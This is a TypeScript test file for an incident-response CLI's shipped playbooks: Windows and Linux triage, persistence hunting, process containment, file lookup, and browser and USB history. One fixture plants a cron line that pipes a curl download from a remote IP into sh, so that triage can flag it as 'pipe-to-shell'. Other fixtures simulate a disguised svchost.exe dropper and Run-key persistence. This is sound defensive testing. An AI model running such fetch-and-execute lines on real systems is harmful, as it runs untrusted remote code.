import { existsSync, mkdirSync, readdirSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { describe, expect, it } from 'vitest'
import { SHIPPED } from '../../src/playbooks/shipped/index.ts'
import { openFleet } from '../support/fleet.ts'
import { testFolder } from '../support/folder.ts'
import { memoryOutput } from '../support/host.ts'
import { faultsOf } from './support.ts'

const DEVICE = 'WIN-FIN-01'
const DROPPER = 'C:\\Users\\Public\\svchost.exe'
const RUN_KEY = 'HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run'

interface Step {
  status: string
  result?: Record<string, unknown> | Record<string, unknown>[]
}

/** Runs a playbook that ships. */
async function run(name: string, device: string, ...more: string[]) {
  const fleet = openFleet()
  const { code, out } = await fleet.cbc(['lr', 'run', name, device, '--json', ...more])
  return { fleet, code, steps: JSON.parse(out) as Step[] }
}
const statuses = (steps: readonly Step[]) => steps.map(({ status }) => status)
const textOf = (step: Step | undefined) => JSON.stringify(step?.result)

describe('playbooks that ship', () => {
  it.each(SHIPPED.map(({ name, text }) => [name, text] as const))('%s is right', async (_, text) => {
    expect(await faultsOf(text)).toEqual([])
  })

  it('windows-triage finds the incident, and changes nothing', async () => {
    const { fleet, code, steps } = await run('windows-triage', DEVICE, '--read-only')
    expect([code, new Set(statuses(steps))]).toEqual([0, new Set(['done'])])
    expect(textOf(steps[1])).toContain('svchost.exe (pid 7312)')
    expect(textOf(steps[4])).toContain('update.onedrivesync.example')
    expect((await fleet.executions()).filter(({ name }) => ['create process', 'kill', 'delete file'].includes(name))).toEqual([])
  })

  it('linux-triage finds what fetches and runs something unseen, and each skips what is of the other system', async () => {
    const fleet = openFleet({ local: testFolder() })
    const job = join(fleet.home, 'job')
    writeFileSync(job, '# hourly\n0 * * * * root curl -s http://203.0.113.66/x | sh\n')
    expect((await fleet.cbc(['lr', 'put', 'LNX-LAB-01', job, '/etc/cron.d/update'])).code).toBe(0)
    const steps = JSON.parse((await fleet.cbc(['lr', 'run', 'linux-triage', 'LNX-LAB-01', '--json'])).out) as Step[]
    expect(statuses(steps).filter(status => status !== 'done' && status !== 'not found')).toEqual([])
    const { findings } = steps[1]?.result as unknown as { findings: { kind: string; path: string; rules: string[] }[] }
    expect(findings.find(({ kind }) => kind === 'autostart')).toMatchObject({ path: '/etc/cron.d/update', rules: ['pipe-to-shell'] })
    const other = await fleet.cbc(['lr', 'run', 'windows-triage', 'LNX-LAB-01', '--json'])
    expect(new Set(statuses(JSON.parse(other.out) as Step[]))).toEqual(new Set(['skipped']))
    expect(other.err).toContain('LNX-LAB-01: no step of windows-triage is for this endpoint')
    // A folder that is not there is no search without results.
    expect((await fleet.cbc(['lr', 'run', 'find-file', 'LNX-LAB-01', '--input', 'name=update'])).code).toBe(7)
  })

  it('persistence-hunt shows the value, the debugger, the task, the service and the key of the user', async () => {
    const { code, steps } = await run('persistence-hunt', DEVICE)
    expect(code).toBe(0)
    expect(textOf(steps[0])).toContain('SecurityHealthUpdate')
    expect(textOf(steps[4])).toContain('sethc.exe')
    expect(textOf(steps[6])).toContain('OneDriveSyncTask')
    expect(steps[7]?.result).toEqual([expect.objectContaining({ path: expect.stringMatching(/\\WinUpdateHlp$/) as unknown })])
    expect(textOf(steps[8])).toContain('HKU')
  })

  it('a terminal shows what a step found as the command by itself does: the tree, headings, and the lines to go on with', async () => {
    const fleet = openFleet()
    const stdout = memoryOutput({ isTerminal: true, columns: 80 })
    await fleet.cbc(['lr', 'run', 'windows-triage', DEVICE], { stdout })
    const lines = stdout.text().split('\n')
    expect(lines).toContain(`             > cbc lr kill ${DEVICE} 7312 --if-name svchost.exe`)
    expect(lines.some(line => /^ {5}7312 .*└─ ! svchost\.exe/.test(line))).toBe(true)
    expect(lines.some(line => /^ {5}modified +size +attr +path$/.test(line))).toBe(true)
    // Steps and lines to go on with stay whole, to be copied; so do words that are longer than a line.
    const isWhole = (line: string) => /^\S| > cbc /.test(line) || !/\S\s+\S/.test(line.replace(/ [A-Z]+ {2}/, ''))
    expect(lines.filter(line => line.length > 80 && !isWhole(line))).toEqual([])
  })

  it('find-file tells which file it is by its content', async () => {
    const input = ['--input', 'name=svchost.exe', '--input', 'below=C:\\Users\\Public']
    const found = await run('find-file', DEVICE, ...input)
    const [hash] = found.steps[1]?.result as Record<string, string>[]
    expect([found.code, hash?.['path'], statuses(found.steps)]).toEqual([0, DROPPER, ['done', 'done', 'skipped', 'skipped']])
    const known = await run('find-file', DEVICE, ...input, '--input', `sha256=${String(hash?.['sha256']).toUpperCase()}`)
    expect(statuses(known.steps)).toEqual(['done', 'done', 'skipped', 'done'])
    const other = await run('find-file', DEVICE, ...input, '--input', `sha256=${'0'.repeat(64)}`)
    expect(statuses(other.steps)).toEqual(['done', 'done', 'skipped', 'skipped'])
  })

  it('contain-process ends, secures and removes, in this order, and what starts it again', async () => {
    const fleet = openFleet()
    const evidence = join(fleet.home, 'evidence')
    mkdirSync(evidence)
    const inputs = [`path=${DROPPER}`, `evidence=${evidence}`, `key=${RUN_KEY}`, 'value=SecurityHealthUpdate'].flatMap(text => [
      '--input',
      text,
    ])
    const { code, out } = await fleet.cbc(['lr', 'run', 'contain-process', DEVICE, '--json', '--yes', ...inputs])
    expect([code, statuses(JSON.parse(out) as Step[])]).toEqual([0, Array(8).fill('done')])
    expect(existsSync(join(evidence, 'svchost.exe'))).toBe(true)
    const changes = (await fleet.executions()).filter(({ name }) => ['kill', 'delete file', 'reg delete value'].includes(name))
    expect(changes.map(({ name }) => name)).toEqual(['kill', 'delete file', 'reg delete value'])
    expect((await fleet.cbc(['lr', 'ps', DEVICE, '--filter', DROPPER, '--json'])).out.trim()).toBe('[]')
  })

  it('browser-history brings databases home, and usb-history tells of the stick', async () => {
    const fleet = openFleet()
    const before = process.cwd()
    process.chdir(fleet.home)
    try {
      expect((await fleet.cbc(['lr', 'run', 'browser-history', DEVICE])).code).toBe(0)
      expect(readdirSync(join(fleet.home, 'files', 'C', 'Users'))).toContain('j.moreau')
      const { code, out } = await fleet.cbc(['lr', 'run', 'usb-history', DEVICE, '--json'])
      expect([code, textOf((JSON.parse(out) as Step[])[0])]).toEqual([0, expect.stringContaining('4C530001230523117263')])
    } finally {
      process.chdir(before)
    }
  })
})

describe('lr playbook', () => {
  it('lists, shows, checks, and prints the schema', async () => {
    const fleet = openFleet()
    const list = JSON.parse((await fleet.cbc(['lr', 'playbook', 'list', '--json'])).out) as { name: string }[]
    expect(list.map(({ name }) => name)).toEqual(SHIPPED.map(({ name }) => name))
    expect((await fleet.cbc(['lr', 'playbook', 'show', 'contain-process'])).out).toBe(
      SHIPPED.find(({ name }) => name === 'contain-process')?.text,
    )
    const check = JSON.parse((await fleet.cbc(['lr', 'playbook', 'check', 'contain-process', '--json'])).out) as { changes: string[] }
    expect(check.changes).toEqual(['kill …', 'rm …', 'reg delete … -v …'])
    expect(JSON.parse((await fleet.cbc(['lr', 'playbook', 'schema'])).out)).toMatchObject({ required: ['steps'] })
    const { code, err } = await fleet.cbc(['lr', 'playbook', 'check', 'no-such-thing'])
    expect([code, err]).toEqual([4, expect.stringContaining('cbc lr playbook list')])
    expect(await fleet.requests()).toEqual([])
  })
})
